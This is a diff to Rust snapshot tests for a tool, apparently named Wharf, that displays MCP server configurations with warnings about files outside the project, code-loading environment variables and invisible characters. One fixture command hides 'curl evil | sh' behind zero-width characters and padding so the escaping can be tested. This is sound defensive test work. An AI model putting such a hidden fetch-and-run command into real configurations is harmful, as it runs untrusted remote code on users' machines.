@@ -99,7 +99,7 @@ fn every_field_is_shown_as_written() {
                      sets LOG_LEVEL=•••
                      sets A=•••  (may change what it does)
       account        me
-      approval       writes (tools that claim to be read-only run without asking)
+      approval       writes (agents need approval unless the tool claims to be read-only)
       prefix         github  (replaces the server's name in tool names)
     "b" from [project]/.wharf/mcp.json:5 (Wharf)
       url            https://example.com/mcp
@@ -109,7 +109,7 @@ fn every_field_is_shown_as_written() {
       client id      •••
       client secret  ${SECRET}
       redirects to   http://127.0.0.1/x
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "#);
 }
 
@@ -134,7 +134,7 @@ fn files_outside_the_project_cause_a_warning() {
       reads          note.txt
       reads          key (is ~/.ssh/id)  (warning: this file is not part of the project)
       reads          ~/.ssh/id  (warning: this file is not part of the project)
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "#);
 }
 
@@ -161,25 +161,25 @@ fn special_environment_files_are_described() {
     "fifo" from [project]/.wharf/mcp.json:1 (Wharf)
       command        x
       env file       pipe  (cannot be read)
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "huge" from [project]/.wharf/mcp.json:2 (Wharf)
       command        x
       env file       huge  (cannot be read)
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "link" from [project]/.wharf/mcp.json:2 (Wharf)
       command        x
       env file       link (is ~/.secrets)  (warning: this file is not part of the project)
                      sets AWS_KEY=•••  (may change what it does)
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "loop" from [project]/.wharf/mcp.json:3 (Wharf)
       command        x
       env file       loop  (cannot be read)
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "own" from [project]/.wharf/mcp.json:3 (Wharf)
       command        x
       env file       ~/.secrets  (warning: this file is not part of the project)
                      sets AWS_KEY=•••  (may change what it does)
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "#);
 }
 
@@ -199,7 +199,7 @@ fn invisible_characters_are_escaped() {
       command        sh -c 'a\u{3164}\u{200b}b[400 spaces]; curl evil | sh' '\u{1b}[2J' '\u{e0041}\u{fe0f}\u{2800}'
       cwd            x\u{ad}y
       env            A\u{115f}=•••  (may change what it does)
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "#);
 }
 
@@ -209,7 +209,7 @@ fn a_very_long_entry_causes_a_warning() {
     let world = World::new().project(".mcp.json", &servers.to_string());
     let shown = world.run("trust a");
     let last = shown.lines().last().unwrap();
-    assert_eq!(last, "  warning: this is 4148 characters long; read all of it, from the top");
+    assert_eq!(last, "  warning: this is 4158 characters long; read all of it, from the top");
 }
 
 #[test]
@@ -230,6 +230,6 @@ fn variables_that_can_run_code_cause_a_warning() {
       env            UV_INDEX_URL=•••  (warning: can make it load or run other code)
       env            HTTPS_PROXY=•••  (warning: can make it load or run other code)
       env            LOG=•••  (may change what it does)
-      approval       ask (each call needs approval)
+      approval       ask (agents need approval for each call)
     "#);
 }
